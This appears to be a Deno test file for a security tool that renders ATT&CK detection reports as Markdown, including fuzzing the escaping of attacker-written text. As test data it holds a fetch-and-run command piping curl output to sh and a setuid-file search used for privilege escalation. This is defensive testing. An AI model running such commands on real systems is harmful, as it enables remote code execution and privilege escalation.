import assert from "assert";
import fc from "fast-check";
import { cellCode, code, escaped } from "../../../lib/export/report/markdown_text.ts";
import { exportTag, variousTags } from "../exported.ts";
import { HOSTILE_TEXTS } from "../hostile.ts";
import { reported } from "../reported.ts";

Deno.test("a report for a ticket has the facts as tables and evidence as a list", async () => {
  const evidence = { command_text: "cd /; find / -perm -4000", matched: "find / -perm -4000" };
  const text = await reported([...variousTags(), exportTag({ evidence })], "--format", "md");
  for (
    const line of [
      "# ATT&CK report: everything",
      "| T1548.001 Abuse Elevation Control Mechanism: Setuid and Setgid | Privilege Escalation | 5 | 0.95 |",
      "| through | Privilege escalation | 5 | 1 |",
      "| `192.0.2.10` | 4 | 2026-05-02 01:00 |",
      "`192.0.2.10` on `web-01`, confidence 0.95",
      "R0015 find looks for set-uid or set-gid files",
    ]
  ) assert.ok(text.includes(line), `${line} is not in ${text}`);
});

Deno.test("an empty database gives a ticket that says so", async () => {
  assert.match(await reported([], "--format", "md"), /^# ATT&CK report: everything\n\nNothing was/);
});

Deno.test("whatever attackers wrote stays inside its code, on one line", () => {
  const hostile = fc.oneof(
    fc.constantFrom(...HOSTILE_TEXTS),
    fc.array(fc.constantFrom(..."`|\\ \n\t<>a\u202e"), { maxLength: 30 })
      .map((characters) => characters.join("")),
  );
  fc.assert(
    fc.property(hostile, (text) => {
      const made = code(text);
      const [, fence, inner] = /^(`+)([\s\S]*?)\1$/.exec(made) ?? assert.fail(made);
      assert.equal(made.length, fence!.length * 2 + inner!.length, made);
      const runs = Array.from(inner!.matchAll(/`+/g), ([run]) => run.length);
      assert.ok(!runs.includes(fence!.length), made);
      assert.doesNotMatch(inner!, /[\p{Cc}\p{Cf}]/u);
      assert.doesNotMatch(cellCode(text), /\|/);
      assert.ok(inner!.length > 0 && !inner!.startsWith("`") && !inner!.endsWith("`"));
    }),
    { numRuns: 2000 },
  );
});

Deno.test("a command stands in a ticket as it was typed", () => {
  assert.equal(code("curl 192.0.2.9 | sh"), "`curl 192.0.2.9 | sh`");
});

Deno.test("other text makes no markup, mention or link", () => {
  assert.equal(escaped("a *b* [c](d) <e> @f #1"), "a \\*b\\* \\[c\\](d) \\<e\\> \\@f \\#1");
  assert.equal(escaped("https://e.example www.e.example"), "https\\://e.example www\\.e.example");
  assert.equal(escaped("Brute Force: Password (1-2)\n"), "Brute Force: Password (1-2)\\\\n");
});
